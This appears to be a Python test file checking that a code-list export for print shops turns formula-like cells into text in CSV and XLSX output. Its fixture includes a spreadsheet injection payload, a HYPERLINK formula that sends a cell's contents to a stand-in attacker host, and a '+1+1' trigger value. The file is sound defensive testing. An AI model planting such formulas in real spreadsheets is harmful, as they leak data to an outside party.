"""Code lists for print shops never carry a spreadsheet formula from a name."""

import csv
import io

from openpyxl import load_workbook

from starqr.plaque.export import export_codes

ROW = {
    "code": "ABCDEFGH23",
    "url": "HTTPS://X.CN/Q/ABCDEFGH23",
    "kind": "member",
    "name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "organisation": "+1+1",
}


def test_csv_cells_that_look_like_formulas_are_text():
    text = export_codes([ROW], "csv").decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[3] == "'" + ROW["name"] and row[4] == "'+1+1"
    assert row[0] == "ABCDEFGH23"  # ordinary values untouched


def test_xlsx_cells_are_strings_not_formulas():
    sheet = load_workbook(io.BytesIO(export_codes([ROW], "xlsx"))).active
    name_cell = sheet.cell(row=2, column=4)
    assert name_cell.data_type == "s" and name_cell.value == "'" + ROW["name"]
